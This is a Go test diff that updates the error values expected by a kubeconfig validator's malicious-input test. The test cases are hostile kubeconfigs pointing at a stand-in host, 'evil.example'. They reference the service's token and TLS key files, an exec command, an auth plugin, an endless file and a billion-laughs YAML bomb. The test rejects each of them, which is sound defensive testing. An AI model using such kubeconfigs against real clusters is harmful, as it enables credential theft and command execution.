@@ -12,10 +12,11 @@ import (
 	corev1 "k8s.io/api/core/v1"
 	"k8s.io/client-go/rest"
 
+	"github.com/vitistack/stack/apis/kubeconfig"
 	"github.com/vitistack/stack/events/outbound"
 )
 
-// kubeconfig returns a kubeconfig of a user with these credentials.
+// kubeconfigOf returns a kubeconfig of a user with these credentials.
 func kubeconfigOf(server, cluster, user string) string {
 	return "apiVersion: v1\nkind: Config\ncurrent-context: x\n" +
 		"clusters: [{name: c, cluster: {server: '" + server + "'" + cluster + "}}]\n" +
@@ -37,18 +38,18 @@ func TestMaliciousKubeconfig(t *testing.T) {
 		want               error
 	}{
 		"Good":    {reason: "everything is in the kubeconfig", kubeconfig: kubeconfigOf("https://10.0.0.5:6443", "", "token: t")},
-		"Token":   {reason: "a path to the function's token", kubeconfig: kubeconfigOf("https://evil.example", "", "tokenFile: "+token), want: ErrReachesHere},
-		"Both":    {reason: "a token in addition to a path", kubeconfig: kubeconfigOf("https://evil.example", "", "token: t, tokenFile: "+token), want: ErrReachesHere},
-		"Endless": {reason: "a file without an end", kubeconfig: kubeconfigOf("https://evil.example", "", "tokenFile: /dev/zero"), want: ErrReachesHere},
-		"Program": {reason: "a program", kubeconfig: kubeconfigOf("https://evil.example", "", "exec: {apiVersion: client.authentication.k8s.io/v1, command: touch, args: ["+ran+"], interactiveMode: Never}"), want: ErrReachesHere},
-		"Plugin":  {reason: "a plug-in", kubeconfig: kubeconfigOf("https://evil.example", "", "auth-provider: {name: oidc}"), want: ErrReachesHere},
-		"Key":     {reason: "a path to the function's key", kubeconfig: kubeconfigOf("https://evil.example", "", "client-certificate: /etc/tls.crt, client-key: /etc/tls.key"), want: ErrReachesHere},
-		"CA":      {reason: "a file again", kubeconfig: kubeconfigOf("https://evil.example", ", certificate-authority: "+token, "token: t"), want: ErrReachesHere},
-		"Another": {reason: "the path belongs to another user of the kubeconfig", kubeconfig: strings.Replace(kubeconfigOf("https://a", "", "token: t"), "users: [", "users: [{name: v, user: {tokenFile: /x}}, ", 1), want: ErrReachesHere},
-		"Null":    {reason: "a user is null", kubeconfig: "users: [{name: u, user: null}]\nclusters: [null]", want: ErrNotKubeconfig},
-		"NoYAML":  {reason: "no document", kubeconfig: "{", want: ErrNotKubeconfig},
-		"Empty":   {reason: "no context", kubeconfig: "", want: ErrNotKubeconfig},
-		"Bomb":    {reason: "a billion laughs", kubeconfig: bomb(), want: ErrNotKubeconfig},
+		"Token":   {reason: "a path to the function's token", kubeconfig: kubeconfigOf("https://evil.example", "", "tokenFile: "+token), want: kubeconfig.ErrReachesHere},
+		"Both":    {reason: "a token in addition to a path", kubeconfig: kubeconfigOf("https://evil.example", "", "token: t, tokenFile: "+token), want: kubeconfig.ErrReachesHere},
+		"Endless": {reason: "a file without an end", kubeconfig: kubeconfigOf("https://evil.example", "", "tokenFile: /dev/zero"), want: kubeconfig.ErrReachesHere},
+		"Program": {reason: "a program", kubeconfig: kubeconfigOf("https://evil.example", "", "exec: {apiVersion: client.authentication.k8s.io/v1, command: touch, args: ["+ran+"], interactiveMode: Never}"), want: kubeconfig.ErrReachesHere},
+		"Plugin":  {reason: "a plug-in", kubeconfig: kubeconfigOf("https://evil.example", "", "auth-provider: {name: oidc}"), want: kubeconfig.ErrReachesHere},
+		"Key":     {reason: "a path to the function's key", kubeconfig: kubeconfigOf("https://evil.example", "", "client-certificate: /etc/tls.crt, client-key: /etc/tls.key"), want: kubeconfig.ErrReachesHere},
+		"CA":      {reason: "a file again", kubeconfig: kubeconfigOf("https://evil.example", ", certificate-authority: "+token, "token: t"), want: kubeconfig.ErrReachesHere},
+		"Another": {reason: "the path belongs to another user of the kubeconfig", kubeconfig: strings.Replace(kubeconfigOf("https://a", "", "token: t"), "users: [", "users: [{name: v, user: {tokenFile: /x}}, ", 1), want: kubeconfig.ErrReachesHere},
+		"Null":    {reason: "a user is null", kubeconfig: "users: [{name: u, user: null}]\nclusters: [null]", want: kubeconfig.ErrInvalid},
+		"NoYAML":  {reason: "no document", kubeconfig: "{", want: kubeconfig.ErrInvalid},
+		"Empty":   {reason: "no context", kubeconfig: "", want: kubeconfig.ErrInvalid},
+		"Bomb":    {reason: "a billion laughs", kubeconfig: bomb(), want: kubeconfig.ErrInvalid},
 	}
 	for name, tc := range cases {
 		t.Run(name, func(t *testing.T) {
